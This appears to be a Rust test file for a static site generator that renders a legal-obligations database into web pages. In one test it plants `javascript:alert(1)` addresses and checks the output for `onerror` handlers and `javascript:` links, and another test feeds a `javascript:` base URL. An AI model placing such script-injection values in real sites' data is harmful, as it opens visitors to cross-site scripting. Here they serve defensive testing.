//! `lextrack report`, as users meet it: the real binary builds sites from
//! fixture stores into temporary folders, and the tests read what it wrote.
//!
//! Snapshots of key pages live in tests/fixtures/site/expected/; run with
//! `LEXTRACK_BLESS=1` to rewrite them on purpose. The Nu Html Checker runs
//! when `LEXTRACK_VNU_JAR` points at vnu.jar (required when
//! `LEXTRACK_REQUIRE_TOOLS=1`).

use std::collections::{BTreeMap, HashMap, HashSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

use assert_cmd::Command;

const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/site/catalog");
const MINI: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/mini");
const EXPECTED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/site/expected");

mod common;
use common::{Sandbox, files_under};

impl Sandbox {
    /// A store loaded from `catalog`.
    fn with(catalog: &str) -> Sandbox {
        let s = Sandbox::new();
        s.cmd(&["init", "--empty"]).assert().success();
        s.cmd(&["import", catalog]).assert().success();
        s
    }

    /// A store holding the bundled catalog, as `init` makes it.
    fn bundled() -> Sandbox {
        let s = Sandbox::new();
        s.cmd(&["init"]).assert().success();
        s
    }

    /// Builds the site into `out` (relative to the sandbox) and returns
    /// the report line from stderr.
    fn report(&self, out: &str, extra: &[&str]) -> String {
        let out = self.path(out);
        let mut args = vec!["report", "--out", out.to_str().unwrap()];
        args.extend_from_slice(extra);
        let assert = self.cmd(&args).assert().success();
        String::from_utf8_lossy(&assert.get_output().stderr).into_owned()
    }

    /// Runs SQL on the store, for facts that import would refuse.
    fn sql(&self, statement: &str) {
        let db = self.db();
        let statement = statement.to_owned();
        tokio::runtime::Builder::new_current_thread()
            .build()
            .unwrap()
            .block_on(async move {
                use sqlx::Connection;
                let mut conn = sqlx::SqliteConnection::connect(&format!("sqlite:{}", db.display()))
                    .await
                    .expect("open the store");
                sqlx::query(&statement)
                    .execute(&mut conn)
                    .await
                    .expect("run SQL");
                conn.close().await.unwrap();
            });
    }
}

/// Every file under `root` (relative path → bytes), skipping nothing.
fn read_tree(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    for entry in walkdir::WalkDir::new(root).sort_by_file_name() {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let rel = entry.path().strip_prefix(root).unwrap();
            out.insert(
                rel.to_string_lossy().replace('\\', "/"),
                fs::read(entry.path()).unwrap(),
            );
        }
    }
    out
}

fn mtimes(root: &Path) -> BTreeMap<String, SystemTime> {
    walkdir::WalkDir::new(root)
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path()
                    .strip_prefix(root)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned(),
                e.metadata().unwrap().modified().unwrap(),
            )
        })
        .collect()
}

/// The search index's entries, read as the search page reads them: the
/// table of contents `search-index.json`, then each part it lists in turn.
/// Checks on the way that the script twins (`search-index.js` and each
/// part's `.js`) hold the same JSON, so that search from disk finds the
/// same.
fn search_entries(site: &BTreeMap<String, Vec<u8>>) -> Vec<serde_json::Value> {
    let text = |path: &str| -> &str {
        let bytes = site
            .get(path)
            .unwrap_or_else(|| panic!("{path} is missing"));
        std::str::from_utf8(bytes).unwrap()
    };
    let contents: serde_json::Value = serde_json::from_str(text("search-index.json")).unwrap();
    let script = text("search-index.js");
    let wrapped = script
        .strip_prefix("window.lextrackSearchIndex=")
        .and_then(|t| t.strip_suffix(";\n"))
        .unwrap_or_else(|| panic!("search-index.js: {script}"));
    let script_contents: serde_json::Value = serde_json::from_str(wrapped).unwrap();
    let shards = contents["shards"].as_array().unwrap();
    let script_shards = script_contents["shards"].as_array().unwrap();
    assert_eq!(shards.len(), script_shards.len());
    assert_eq!(contents["entries"], script_contents["entries"]);
    let mut entries = Vec::new();
    for (n, (json, js)) in shards.iter().zip(script_shards).enumerate() {
        let part: serde_json::Value = serde_json::from_str(text(json.as_str().unwrap())).unwrap();
        let js = text(js.as_str().unwrap());
        let inner = js
            .strip_prefix(&format!("lextrackSearchShard({n},"))
            .and_then(|t| t.strip_suffix(");\n"))
            .unwrap_or_else(|| panic!("part {n} as a script: {js}"));
        let script_part: serde_json::Value = serde_json::from_str(inner).unwrap();
        assert_eq!(part, script_part, "part {n}: JSON and script differ");
        entries.extend(part["entries"].as_array().unwrap().iter().cloned());
    }
    assert_eq!(
        contents["entries"].as_u64().unwrap() as usize,
        entries.len(),
        "the table of contents counts the entries"
    );
    entries
}

/// The values of `attr="…"` in an HTML text, entity-decoded.
fn attr_values(html: &str, attr: &str) -> Vec<String> {
    let needle = format!(" {attr}=\"");
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find(&needle) {
        rest = &rest[i + needle.len()..];
        let end = rest.find('"').expect("attribute closes");
        out.push(decode(&rest[..end]));
        rest = &rest[end..];
    }
    out
}

/// The raw tags of an HTML text: what a browser parses as markup.
fn raw_tags(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i..];
        let end = rest.find('>').map_or(rest.len(), |e| e + 1);
        out.push(&rest[..end]);
        rest = &rest[end..];
    }
    out
}

fn decode(s: &str) -> String {
    s.replace("&#38;", "&")
        .replace("&amp;", "&")
        .replace("&#34;", "\"")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#60;", "<")
        .replace("&lt;", "<")
        .replace("&#62;", ">")
        .replace("&gt;", ">")
}

/// Resolves a relative `href` from the page at `from` (relative path):
/// the target file's relative path and its fragment.
fn resolve(from: &str, href: &str) -> (String, Option<String>) {
    let (path, fragment) = match href.split_once('#') {
        Some((p, f)) => (p, Some(f.to_owned())),
        None => (href, None),
    };
    let path = path.split('?').next().unwrap();
    if path.is_empty() {
        return (from.to_owned(), fragment);
    }
    let mut parts: Vec<&str> = from.split('/').collect();
    parts.pop();
    for seg in path.split('/') {
        match seg {
            ".." => {
                assert!(parts.pop().is_some(), "`{href}` in {from} leaves the site");
            }
            "." | "" => {}
            s => parts.push(s),
        }
    }
    (parts.join("/"), fragment)
}

#[test]
fn renders_every_page_kind_from_a_fixture_store() {
    let s = Sandbox::with(FIXTURE);
    let log = s.report("site", &[]);
    assert!(log.contains("written"), "{log}");
    let site = s.path("site");
    for page in [
        "index.html",
        "404.html",
        "search.html",
        "sources.html",
        "documents.html",
        "documents/law.html",
        "documents/decree.html",
        "documents/fta-vn.html",
        "agencies.html",
        "agencies/mol.html",
        "agencies/mia.html",
        "partners.html",
        "partners/vn.html",
        "partners/cn.html",
        "agreements.html",
        "agreements/2015.html",
        "frameworks.html",
        "frameworks/plan.html",
        "directions/plan-d1.html",
        "matrix.html",
        "indicators.html",
        "search-index.json",
        "search-index.js",
        "search/0000.json",
        "search/0000.js",
        "data/obligations.csv",
        "data/obligations.json",
        "data/agreements.csv",
        "data/agreements.json",
        "data/matrix.csv",
        "data/matrix.json",
        "data/indicators.csv",
        "data/indicators.json",
        "assets/site.css",
        "assets/print.css",
        "assets/search.js",
        "assets/site.js",
        ".lextrack-site",
    ] {
        assert!(site.join(page).is_file(), "{page} is missing");
    }
    let law = fs::read_to_string(site.join("documents/law.html")).unwrap();
    // Anchors per eId, with a copy-link control.
    assert!(law.contains(r#"id="art_97__para_1""#), "{law}");
    assert!(law.contains(r##"href="#art_97__para_1""##));
    assert!(law.contains(r#"data-copy="art_97__para_1""#));
    // Unverified facts are visibly marked.
    assert!(law.contains("conf-unverified"));
    // Every page declares its language.
    for (path, bytes) in read_tree(&site) {
        if path.ends_with(".html") {
            let text = String::from_utf8(bytes).unwrap();
            assert!(
                text.contains("<html lang=\"en\">"),
                "{path} declares no language"
            );
        }
    }
    // A partner's timeline is an SVG drawn by lextrack.
    let vn = fs::read_to_string(site.join("partners/vn.html")).unwrap();
    assert!(vn.contains("<svg") && vn.contains("ratified"), "{vn}");
    let ind = fs::read_to_string(site.join("indicators.html")).unwrap();
    assert!(ind.contains("<svg") && ind.contains("<circle"));
    // The search index finds a known provision.
    let entries = search_entries(&read_tree(&site));
    assert!(
        entries.iter().any(|e| e[1] == "documents/law.html#art_97"
            && e[2] == "Law on Test Migration, art. 97 — Quotas"),
        "{entries:?}"
    );
}

#[test]
fn downloads_are_one_table_each_with_one_header() {
    let s = Sandbox::with(FIXTURE);
    // More obligations than one batch of the streamed download (5,000).
    s.sql(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5100)
         INSERT INTO obligations (id, document_id, eid, ord, agency_id, role, modality, action,
                                  due, recurrence_every, recurrence_by, note, source_id, confidence)
         SELECT 'bulk-' || printf('%05d', i), o.document_id, o.eid, o.ord + i, o.agency_id, o.role,
                o.modality, 'bulk action ' || i, o.due, o.recurrence_every, o.recurrence_by,
                o.note, o.source_id, o.confidence
           FROM n, (SELECT * FROM obligations ORDER BY id LIMIT 1) o",
    );
    s.report("site", &[]);
    for stem in ["obligations", "agreements", "matrix", "indicators"] {
        let csv_text = fs::read_to_string(s.path(&format!("site/data/{stem}.csv"))).unwrap();
        let json: serde_json::Value = serde_json::from_str(
            &fs::read_to_string(s.path(&format!("site/data/{stem}.json"))).unwrap(),
        )
        .unwrap();
        let records = json.as_array().expect("an array of records");
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let header = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(
            rows.len(),
            records.len(),
            "{stem}: CSV rows against JSON records"
        );
        assert!(
            rows.iter().all(|r| r != &header),
            "{stem}.csv repeats its header inside the table"
        );
        // Each CSV row is the JSON record with the same fields.
        for (row, record) in rows.iter().zip(records) {
            for (name, value) in header.iter().zip(row.iter()) {
                let expected = match &record[name] {
                    serde_json::Value::Null => String::new(),
                    serde_json::Value::String(t) => t.clone(),
                    other => other.to_string(),
                };
                assert_eq!(value, expected, "{stem}: field {name}");
            }
        }
    }
    let obligations = fs::read_to_string(s.path("site/data/obligations.csv")).unwrap();
    assert!(
        obligations.lines().count() > 5100,
        "the bulk rows are listed"
    );
}

#[test]
fn a_large_search_index_comes_in_parts_each_entry_once() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let small = search_entries(&read_tree(&s.path("site")));
    // Names come before provisions, so that a query matching many
    // provisions still lists the agencies and partners it matches.
    let kinds: Vec<&str> = small.iter().map(|e| e[0].as_str().unwrap()).collect();
    let first_provision = kinds.iter().position(|k| *k == "provision").unwrap();
    assert!(
        kinds[first_provision..].iter().all(|k| *k == "provision"),
        "{kinds:?}"
    );
    assert!(kinds.contains(&"agency") && kinds.contains(&"partner"));
    // Enough provisions for three parts of 5,000 entries.
    s.sql(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10500)
         INSERT INTO provisions (document_id, eid, parent_eid, ord, kind, number, heading, text,
                                 confidence)
         SELECT 'law', 'bulk_' || printf('%05d', i), NULL, 100000 + i, 'article', printf('%d', i),
                NULL, 'bulk text ' || i, 'verified'
           FROM n",
    );
    s.report("site", &[]);
    let site = read_tree(&s.path("site"));
    let entries = search_entries(&site);
    assert_eq!(entries.len(), small.len() + 10500);
    // Parts of 5,000 entries, the last one the rest.
    let sizes: Vec<usize> = ["search/0000.json", "search/0001.json", "search/0002.json"]
        .iter()
        .map(|part| {
            let json: serde_json::Value = serde_json::from_slice(
                site.get(*part)
                    .unwrap_or_else(|| panic!("{part} is missing")),
            )
            .unwrap();
            json["entries"].as_array().unwrap().len()
        })
        .collect();
    assert_eq!(sizes[..2], [5000, 5000]);
    assert_eq!(sizes[2], entries.len() - 10000);
    assert!(!site.contains_key("search/0003.json"));
    // A filter of trigrams per part (their bits are tested in
    // src/site/trigrams.rs, their agreement with search.js by the browser
    // test): a power of two of bytes, larger for the parts with more
    // different text.
    let contents: serde_json::Value =
        serde_json::from_slice(site.get("search-index.json").unwrap()).unwrap();
    let filters: Vec<Vec<u8>> = contents["filters"]
        .as_array()
        .expect("filters listed")
        .iter()
        .map(|f| {
            use base64::Engine;
            base64::engine::general_purpose::STANDARD
                .decode(f.as_str().unwrap())
                .unwrap()
        })
        .collect();
    assert_eq!(filters.len(), 3);
    for f in &filters {
        assert!(
            f.len() >= 64 && f.len().is_power_of_two(),
            "{} bytes",
            f.len()
        );
    }
    assert_ne!(filters[0], filters[1], "parts of different text");
    // Each entry once, in the order of the small index with the new
    // provisions in key order among the others.
    let hrefs: Vec<&str> = entries.iter().map(|e| e[1].as_str().unwrap()).collect();
    let unique: HashSet<&str> = hrefs.iter().copied().collect();
    assert_eq!(unique.len(), hrefs.len(), "an entry is listed twice");
    let bulk: Vec<&str> = hrefs
        .iter()
        .copied()
        .filter(|h| h.contains("#bulk_"))
        .collect();
    let mut sorted = bulk.clone();
    sorted.sort();
    assert_eq!(bulk, sorted);
    assert_eq!(bulk.len(), 10500);
    // Fewer entries again: the parts no longer listed are removed.
    s.sql("DELETE FROM provisions WHERE eid LIKE 'bulk_%'");
    s.report("site", &[]);
    let site = read_tree(&s.path("site"));
    assert_eq!(search_entries(&site), small);
    assert!(!site.contains_key("search/0001.json"));
    assert!(!site.contains_key("search/0001.js"));
}

#[test]
fn an_agreement_with_no_events_says_so_without_an_empty_timeline() {
    let s = Sandbox::with(FIXTURE);
    s.sql("DELETE FROM agreement_events WHERE document_id = 'fta-vn'");
    s.report("site", &[]);
    let vn = fs::read_to_string(s.path("site/partners/vn.html")).unwrap();
    assert!(
        vn.contains("No events of this agreement are recorded yet"),
        "{vn}"
    );
    assert!(!vn.contains("no stage reached yet"), "{vn}");
    assert!(!vn.contains(r#"<figure class="timeline">"#), "{vn}");
    assert!(!vn.contains("<tbody>"), "{vn}");
}

#[test]
fn titles_follow_the_language_with_a_visible_fallback() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &["--lang", "ru"]);
    let law = fs::read_to_string(s.path("site/documents/law.html")).unwrap();
    assert!(
        law.contains(r#"<span lang="ru">Закон о тестовой миграции</span>"#),
        "{law}"
    );
    let fta = fs::read_to_string(s.path("site/documents/fta-vn.html")).unwrap();
    // No Russian title: the English one, marked.
    assert!(fta.contains("Free trade agreement with Viet Nam"));
    assert!(fta.contains(r#"class="fallback""#), "{fta}");
    s.report("site-en", &[]);
    let decree = fs::read_to_string(s.path("site-en/documents/decree.html")).unwrap();
    assert!(decree.contains(r#"<span lang="ru">Постановление о квотах</span>"#));
    assert!(decree.contains(r#"class="fallback""#));
}

#[test]
fn every_internal_link_and_anchor_resolves() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    assert_links_resolve(&read_tree(&s.path("site")));
}

/// The bundled catalog is what readers meet first, and it has kinds of
/// fact the fixture lacks (obligations under provisions linked to
/// objectives and challenges, not only to directions).
#[test]
fn every_internal_link_and_anchor_of_the_bundled_catalog_resolves() {
    let s = Sandbox::bundled();
    for lang in ["en", "kk"] {
        let out = format!("site-{lang}");
        s.report(&out, &["--lang", lang]);
        let site = read_tree(&s.path(&out));
        assert_links_resolve(&site);
        // Every framework node can be searched for, not only directions:
        // a challenge of "Kazakhstan-2050" leads to its framework's page.
        assert!(
            search_entries(&site).iter().any(|e| e[0] == "challenge"
                && e[1]
                    .as_str()
                    .is_some_and(|h| h.starts_with("frameworks/kz-2050.html#node-"))),
            "no challenge in the search index ({lang})"
        );
    }
    // A date as precise as its source reads "in 2017", never "on 2017".
    let site = read_tree(&s.path("site-en"));
    let agencies: Vec<&str> = site
        .iter()
        .filter(|(p, _)| p.starts_with("agencies/"))
        .map(|(_, b)| std::str::from_utf8(b).unwrap())
        .collect();
    for page in &agencies {
        for (i, _) in page.match_indices(" on <time>") {
            let date = &page[i + 10..].split('<').next().unwrap();
            assert_eq!(date.len(), 10, "\"on {date}\" in an agency page");
        }
    }
    assert!(
        agencies.iter().any(|p| p.contains(" in <time>2017</time>")),
        "no succession dated to a year"
    );
}

fn assert_links_resolve(site: &BTreeMap<String, Vec<u8>>) {
    let mut ids: HashMap<&str, HashSet<String>> = HashMap::new();
    for (path, bytes) in site {
        if path.ends_with(".html") {
            let text = std::str::from_utf8(bytes).unwrap();
            ids.insert(path, attr_values(text, "id").into_iter().collect());
        }
    }
    let mut checked = 0;
    let mut check = |from: &str, href: &str| {
        if href.starts_with("https://")
            || href.starts_with("http://")
            || href.starts_with("mailto:")
        {
            return;
        }
        assert!(!href.contains(':'), "{from} links to `{href}`");
        let (target, fragment) = resolve(from, href);
        assert!(
            site.contains_key(&target),
            "{from} links to missing `{href}` ({target})"
        );
        if let Some(f) = fragment {
            let anchors = ids
                .get(target.as_str())
                .unwrap_or_else(|| panic!("{target} has no ids"));
            assert!(
                anchors.contains(&f),
                "{from} links to missing anchor `{href}`"
            );
        }
        checked += 1;
    };
    for (path, bytes) in site {
        if !path.ends_with(".html") {
            continue;
        }
        let text = std::str::from_utf8(bytes).unwrap();
        for href in attr_values(text, "href")
            .into_iter()
            .chain(attr_values(text, "src"))
        {
            check(path, &href);
        }
    }
    // The search index's links are site links too.
    for e in search_entries(site) {
        check("search.html", e[1].as_str().unwrap());
    }
    assert!(checked > 100, "only {checked} links checked");
}

#[test]
fn hostile_text_comes_out_inert() {
    let s = Sandbox::with(FIXTURE);
    // Import refuses such an address; a store written by other tools may
    // hold one.
    s.sql("UPDATE sources SET url = 'javascript:alert(1)' WHERE id = 'src-evil'");
    s.sql("UPDATE documents SET url = 'JavaScript:alert(2)' WHERE id = 'decree'");
    s.report("site", &[]);
    let site = read_tree(&s.path("site"));
    let mut seen_evil = false;
    for (path, bytes) in &site {
        if !path.ends_with(".html") {
            continue;
        }
        let text = std::str::from_utf8(bytes).unwrap();
        // Our own script tags have a `src`; none comes from the data.
        for (i, _) in text.match_indices("<script") {
            assert!(
                text[i..].starts_with("<script src="),
                "{path}: raw <script> from data"
            );
        }
        assert!(!text.contains("<img"), "{path}: raw <img> from data");
        // Hostile text may show as text; no raw tag may carry it.
        for tag in raw_tags(text) {
            let lower = tag.to_ascii_lowercase();
            assert!(!lower.contains("onerror"), "{path}: event handler in {tag}");
            assert!(
                !lower.contains("javascript:"),
                "{path}: javascript: in {tag}"
            );
        }
        for href in attr_values(text, "href") {
            assert!(
                !href
                    .to_ascii_lowercase()
                    .trim_start()
                    .starts_with("javascript:"),
                "{path}: javascript: link"
            );
        }
        if text.contains("alert(1)") {
            seen_evil = true;
        }
    }
    // The address is still shown, as text.
    assert!(seen_evil, "the javascript: address is not shown at all");
    let sources = std::str::from_utf8(&site["sources.html"]).unwrap();
    assert!(
        sources.contains(r#"<span class="unlinked">javascript:alert(1)</span>"#),
        "{sources}"
    );
    // Escaped, the hostile title still reads as text.
    assert!(
        sources.contains("alert(&#39;title&#39;)") || sources.contains("alert(&#x27;title&#x27;)")
    );
}

#[test]
fn unchanged_rebuild_writes_nothing() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let before = mtimes(&s.path("site"));
    let bytes = read_tree(&s.path("site"));
    std::thread::sleep(std::time::Duration::from_millis(20));
    let log = s.report("site", &[]);
    assert!(log.contains("(0 written"), "{log}");
    assert_eq!(mtimes(&s.path("site")), before);
    assert_eq!(read_tree(&s.path("site")), bytes);
}

#[test]
fn changing_one_fact_rewrites_only_its_pages() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let before = mtimes(&s.path("site"));
    std::thread::sleep(std::time::Duration::from_millis(20));
    // A partner's note shows only on its own page.
    s.sql("UPDATE partners SET note = 'A new note.' WHERE id = 'vn'");
    let log = s.report("site", &[]);
    assert!(log.contains("(1 written"), "{log}");
    let after = mtimes(&s.path("site"));
    // The manifest records the new store; of the pages, only one changed.
    let changed: Vec<&String> = after
        .iter()
        .filter(|(k, v)| before.get(*k) != Some(*v) && *k != ".lextrack-site")
        .map(|(k, _)| k)
        .collect();
    assert_eq!(changed, vec!["partners/vn.html"], "{changed:?}");
    let vn = fs::read_to_string(s.path("site/partners/vn.html")).unwrap();
    assert!(vn.contains("A new note."));
}

#[test]
fn a_deleted_page_is_written_again() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let law = fs::read(s.path("site/documents/law.html")).unwrap();
    fs::remove_file(s.path("site/documents/law.html")).unwrap();
    let log = s.report("site", &[]);
    assert!(log.contains("(1 written"), "{log}");
    assert_eq!(fs::read(s.path("site/documents/law.html")).unwrap(), law);
}

#[test]
fn same_store_gives_identical_bytes() {
    let s = Sandbox::with(FIXTURE);
    s.report("a", &[]);
    s.report("b", &[]);
    // The manifest is lextrack's bookkeeping (it names the store file's
    // state), not part of the site.
    let site = |dir: &str| {
        let mut t = read_tree(&s.path(dir));
        t.remove(".lextrack-site");
        t
    };
    let a = site("a");
    let b = site("b");
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (k, v) in &a {
        assert!(v == &b[k], "{k} differs between two builds");
    }
}

#[test]
fn refuses_a_foreign_non_empty_folder() {
    let s = Sandbox::with(FIXTURE);
    fs::create_dir_all(s.path("mine")).unwrap();
    fs::write(s.path("mine/notes.txt"), "my notes").unwrap();
    let out = s.path("mine");
    let assert = s
        .cmd(&["report", "--out", out.to_str().unwrap()])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(err.contains("--force"), "{err}");
    assert!(!s.path("mine/index.html").exists());
    // With --force it builds, and keeps what was there.
    s.report("mine", &["--force"]);
    assert!(s.path("mine/index.html").is_file());
    assert_eq!(
        fs::read_to_string(s.path("mine/notes.txt")).unwrap(),
        "my notes"
    );
    // A file of its own at a path the site would write is never replaced,
    // even with --force.
    fs::create_dir_all(s.path("theirs")).unwrap();
    fs::write(s.path("theirs/index.html"), "<h1>my page</h1>").unwrap();
    let theirs = s.path("theirs");
    let assert = s
        .cmd(&["report", "--out", theirs.to_str().unwrap(), "--force"])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(err.contains("`index.html`"), "{err}");
    assert_eq!(
        fs::read_to_string(s.path("theirs/index.html")).unwrap(),
        "<h1>my page</h1>"
    );
    assert!(!s.path("theirs/documents").exists());
}

#[test]
fn stale_pages_go_and_foreign_files_stay() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    fs::write(s.path("site/documents/mine.html"), "mine").unwrap();
    fs::write(s.path("site/README.txt"), "mine").unwrap();
    // Another store: the fixture's decree and partner cn are not in it.
    let other = Sandbox::with(MINI);
    let out = s.path("site");
    let assert = other
        .cmd(&["report", "--out", out.to_str().unwrap()])
        .assert()
        .success();
    let log = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(!log.contains(" 0 removed"), "{log}");
    assert!(!s.path("site/documents/decree.html").exists());
    assert!(!s.path("site/partners/cn.html").exists());
    assert!(s.path("site/documents/law.html").is_file());
    assert_eq!(
        fs::read_to_string(s.path("site/documents/mine.html")).unwrap(),
        "mine"
    );
    assert_eq!(
        fs::read_to_string(s.path("site/README.txt")).unwrap(),
        "mine"
    );
    let manifest = fs::read_to_string(s.path("site/.lextrack-site")).unwrap();
    assert!(!manifest.contains("decree.html") && !manifest.contains("mine.html"));
}

#[test]
fn a_file_put_where_a_new_page_goes_is_never_replaced() {
    // A site of the smaller store, then a file of someone else's at the
    // path of a page that only the larger store has.
    let small = Sandbox::with(MINI);
    small.report("site", &[]);
    let out = small.path("site");
    let before = read_tree(&out);
    assert!(!before.contains_key("documents/decree.html"));
    fs::write(small.path("site/documents/decree.html"), "mine").unwrap();
    let large = Sandbox::with(FIXTURE);
    let assert = large
        .cmd(&["report", "--out", out.to_str().unwrap()])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(
        err.contains("documents/decree.html") && err.contains("did not write it"),
        "{err}"
    );
    // Refused before anything was written.
    let mut after = read_tree(&out);
    assert_eq!(
        after.remove("documents/decree.html").as_deref(),
        Some(&b"mine"[..])
    );
    assert_eq!(after, before);
}

#[test]
fn a_build_that_fails_takes_back_its_new_pages() {
    // Late on the main thread: the matrix download is written after every
    // document's page.
    fails_late_and_takes_back("data/matrix.csv");
    // On the threads beside the pages.
    fails_late_and_takes_back("search/0000.json");
    fails_late_and_takes_back("data/obligations.csv");
}

/// The site of the smaller store; then the larger store's build, which
/// adds pages (its decree, its partner cn…) and fails because a folder
/// stands at `obstacle`, a file of the old site.
fn fails_late_and_takes_back(obstacle: &str) {
    let small = Sandbox::with(MINI);
    small.report("site", &[]);
    let out = small.path("site");
    let mut before = read_tree(&out);
    before.remove(".lextrack-site");
    assert!(
        before.remove(obstacle).is_some(),
        "{obstacle} is in the site"
    );
    fs::remove_file(out.join(obstacle)).unwrap();
    fs::create_dir(out.join(obstacle)).unwrap();
    let large = Sandbox::with(FIXTURE);
    let assert = large
        .cmd(&["report", "--out", out.to_str().unwrap()])
        .assert()
        .failure();
    let err = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(err.contains(obstacle), "{obstacle}: {err}");
    // What is left is the smaller store's site, whole: none of the pages
    // the failed build had put in place, and none of its temporary files.
    let mut after = read_tree(&out);
    after.remove(".lextrack-site");
    assert!(!after.contains_key("documents/decree.html"), "{obstacle}");
    assert_eq!(
        after.keys().collect::<Vec<_>>(),
        before.keys().collect::<Vec<_>>(),
        "{obstacle}"
    );
    assert!(
        after == before,
        "{obstacle}: a page of the old site changed"
    );
    assert!(!out.join(".lextrack-tmp").exists(), "{obstacle}");
    // The folder is still lextrack's: with the obstacle gone, the next
    // build completes the larger store's site.
    fs::remove_dir(out.join(obstacle)).unwrap();
    large
        .cmd(&["report", "--out", out.to_str().unwrap()])
        .assert()
        .success();
    let site = read_tree(&out);
    assert!(site.contains_key("documents/decree.html"), "{obstacle}");
    assert_links_resolve(&site);
}

#[test]
fn base_url_gives_canonical_links_and_bad_ones_are_refused() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &["--base-url", "https://example.org/lextrack/"]);
    let law = fs::read_to_string(s.path("site/documents/law.html")).unwrap();
    assert!(law.contains(
        r#"<link rel="canonical" href="https://example.org/lextrack/documents/law.html">"#
    ));
    // The 404 page is served at any depth: everything it links to, its
    // stylesheet among them, is absolute, and it claims no address.
    let missing = fs::read_to_string(s.path("site/404.html")).unwrap();
    assert!(!missing.contains(r#"rel="canonical""#), "{missing}");
    let links: Vec<String> = attr_values(&missing, "href")
        .into_iter()
        .chain(attr_values(&missing, "src"))
        .collect();
    assert!(links.iter().any(|l| l.ends_with("assets/site.css")));
    for link in &links {
        assert!(
            link.starts_with("https://example.org/lextrack/") || link.starts_with('#'),
            "404.html links to `{link}`"
        );
    }
    // Without a base URL it stays relative, for a folder opened from disk.
    s.report("site-rel", &[]);
    let missing = fs::read_to_string(s.path("site-rel/404.html")).unwrap();
    assert!(missing.contains(r#"href="assets/site.css""#), "{missing}");
    let out = s.path("site2");
    for bad in [
        "javascript:x",
        "https://",
        "https:///lextrack",
        "https://example.org/lextrack/?x=1",
        "https://example.org/lextrack#top",
    ] {
        let refused = s
            .cmd(&["report", "--out", out.to_str().unwrap(), "--base-url", bad])
            .assert()
            .code(2);
        let err = String::from_utf8_lossy(&refused.get_output().stderr).into_owned();
        assert!(err.contains("--base-url"), "{bad}: {err}");
        assert!(!out.exists(), "{bad}: nothing is written");
    }
}

/// Key pages against their expected files; `LEXTRACK_BLESS=1` rewrites them.
#[test]
fn snapshots_of_key_pages() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let bless = std::env::var_os("LEXTRACK_BLESS").is_some_and(|v| v == "1");
    let mut failures = Vec::new();
    for page in [
        "index.html",
        "documents/law.html",
        "partners/vn.html",
        "agencies/mol.html",
        "agreements.html",
        "indicators.html",
    ] {
        let actual = fs::read_to_string(s.path("site").join(page)).unwrap();
        let expected_path = Path::new(EXPECTED).join(page);
        if bless {
            fs::create_dir_all(expected_path.parent().unwrap()).unwrap();
            fs::write(&expected_path, &actual).unwrap();
            continue;
        }
        match fs::read_to_string(&expected_path) {
            Ok(expected) if expected == actual => {}
            Ok(expected) => {
                let line = expected
                    .lines()
                    .zip(actual.lines())
                    .position(|(a, b)| a != b)
                    .unwrap_or(expected.lines().count().min(actual.lines().count()));
                failures.push(format!(
                    "{page} differs from its snapshot at line {}:\n  expected: {}\n  actual:   {}",
                    line + 1,
                    expected.lines().nth(line).unwrap_or("<end>"),
                    actual.lines().nth(line).unwrap_or("<end>")
                ));
            }
            Err(_) => failures.push(format!("{page} has no snapshot; run with LEXTRACK_BLESS=1")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The Nu Html Checker on every page.
#[test]
fn nu_html_checker_finds_no_errors() {
    let jar = match std::env::var_os("LEXTRACK_VNU_JAR") {
        Some(j) => PathBuf::from(j),
        None => {
            if std::env::var_os("LEXTRACK_REQUIRE_TOOLS").is_some_and(|v| v == "1") {
                panic!("LEXTRACK_REQUIRE_TOOLS=1 but LEXTRACK_VNU_JAR is not set");
            }
            eprintln!("skipped: set LEXTRACK_VNU_JAR to vnu.jar to run the Nu Html Checker");
            return;
        }
    };
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let out = std::process::Command::new("java")
        .arg("-jar")
        .arg(&jar)
        .args(["--errors-only", "--skip-non-html"])
        .arg(s.path("site"))
        .output()
        .expect("run java");
    assert!(
        out.status.success(),
        "vnu found errors:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[cfg(unix)]
#[test]
fn a_linked_folder_inside_the_output_is_never_written_through() {
